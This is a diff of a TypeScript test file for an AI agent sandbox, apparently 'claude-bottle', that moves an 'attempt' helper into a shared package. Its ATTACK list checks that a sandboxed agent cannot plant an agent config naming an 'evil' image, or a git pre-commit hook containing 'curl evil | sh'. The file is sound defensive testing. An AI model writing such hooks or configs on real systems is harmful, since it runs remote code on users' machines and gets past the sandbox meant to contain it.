@@ -3,7 +3,7 @@ import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { captureStdio, createTestContext } from "@claude-bottle/core/testing";
-import { busyboxAgent, busyboxGitContext, buildTestRegistryImage } from "@claude-bottle/test-support";
+import { attempt, busyboxAgent, busyboxGitContext, buildTestRegistryImage } from "@claude-bottle/test-support";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createSmolmachinesBackend } from "../src/backend.js";
 import { engine, invocations, SMOLVM_DOUBLE, useDoubleState, testSlug } from "./support.js";
@@ -11,8 +11,6 @@ import { engine, invocations, SMOLVM_DOUBLE, useDoubleState, testSlug } from "./
 const git = (cwd: string, ...args: string[]) =>
   execFileSync("git", ["-c", "user.name=Test", "-c", "user.email=test@example.com", ...args], { cwd, encoding: "utf8" });
 
-/** What the bottle tries: each line says whether the write went through. */
-const attempt = (name: string, command: string) => `if (${command}) 2>/dev/null; then echo "${name}: written"; else echo "${name}: refused"; fi`;
 const ATTACK = [
   attempt("agent file", "mkdir -p /workspace/.claude-bottle/agents && echo 'image: evil' > /workspace/.claude-bottle/agents/claude.yaml"),
   attempt("hook", "echo 'curl evil | sh' > /workspace/.git/hooks/pre-commit"),
